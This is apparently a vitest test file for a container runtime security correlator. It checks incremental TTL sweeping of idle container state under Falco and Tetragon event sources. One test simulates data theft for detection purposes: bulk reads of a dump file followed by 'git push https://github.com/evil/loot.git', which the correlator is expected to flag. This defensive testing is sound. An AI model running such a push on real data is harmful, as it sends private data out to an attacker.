/** TTL expiry in bounded pieces: a huge table is never swept inside one call, yet fully within the period. */
import { describe, expect, it } from 'vitest';
import { brief, makeCorrelator, Scenario } from './builder.js';

const CONTAINERS = 10_000;
const HOUR = 3600_000;

function idleTable(falco = false) {
  const { correlator } = makeCorrelator({
    config: { caps: { maxContainers: 50_000, maxProcesses: 50_000 } },
  });
  const s = new Scenario(falco ? { source: 'falco' } : {});
  let last = s.container();
  s.read(s.init(last), '/app/x', 10);
  for (let i = 1; i < CONTAINERS; i++) {
    last = s.container();
    s.read(s.init(last), '/app/x', 10);
  }
  for (let i = 0; i < s.events.length; i += 512) correlator.ingest(s.events.slice(i, i + 512));
  expect(correlator.trackedContainers()).toBe(CONTAINERS);
  return { correlator, s, last };
}

describe('incremental TTL sweep', () => {
  for (const falco of [false, true]) {
    it(`${falco ? 'Falco (pid-keyed)' : 'Tetragon (exec ids)'}: a table of ${CONTAINERS} idle containers expires over many single-event calls, all within seconds of event time`, () => {
      const { correlator, s } = idleTable(falco);
      const later = new Scenario({ startMs: s.now + 2 * HOUR, ...(falco ? { source: 'falco' as const } : {}) });
      const live = later.container();
      const sh = later.init(live);
      const counts: number[] = [];
      // One event per call, 100 ms apart: the Falco receiver's shape.
      for (let i = 0; i < 200; i++) {
        later.events.length = 0;
        later.read(sh, `/app/y${i}`, 10).wait(100);
        correlator.ingest(later.events);
        counts.push(correlator.trackedContainers());
      }
      // Bounded pieces: the first call expired some, not all.
      expect(counts[0]).toBeLessThan(CONTAINERS + 1);
      expect(counts[0]).toBeGreaterThan(CONTAINERS / 2);
      // Monotone progress, and everything idle gone well inside the 60 s sweep period (20 s of event time).
      for (let i = 1; i < counts.length; i++) expect(counts[i]).toBeLessThanOrEqual(counts[i - 1]!);
      expect(counts.at(-1)).toBe(1);
    });
  }

  it('the wall clock (advance) carries a pass on too, and a container active since the pass began stays', () => {
    const { correlator, s, last } = idleTable();
    const now = s.now + 2 * HOUR;
    correlator.advance(now);
    const afterFirst = correlator.trackedContainers();
    expect(afterFirst).toBeGreaterThan(CONTAINERS / 2);
    expect(afterFirst).toBeLessThan(CONTAINERS);
    // The last container (the pass reaches it last) is active again before the pass gets there.
    const again = new Scenario({ startMs: now });
    again.read(again.init(last), '/app/z', 10);
    correlator.ingest(again.events);
    for (let i = 1; i < 100; i++) correlator.advance(now + i * 1000);
    expect(correlator.trackedContainers()).toBe(1);
    for (let i = 0; i < 100; i++) correlator.advance(now + 3 * HOUR + i * 1000);
    expect(correlator.trackedContainers()).toBe(0);
  });

  it('detection across a pass is unchanged: a push after bulk reads alerts while idle state is expiring', () => {
    const { correlator, s } = idleTable();
    const later = new Scenario({ startMs: s.now + 2 * HOUR });
    const c = later.container();
    const sh = later.init(c);
    later.readMany(sh, '/data/dump', 200, 1_000_000, 1);
    const git = later.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: sh });
    later.connect(git, '140.82.112.3', 443);
    const alerts = [];
    for (const e of later.events) alerts.push(...correlator.ingest([e]));
    alerts.push(...correlator.flush());
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(correlator.trackedContainers()).toBe(1);
  });
});
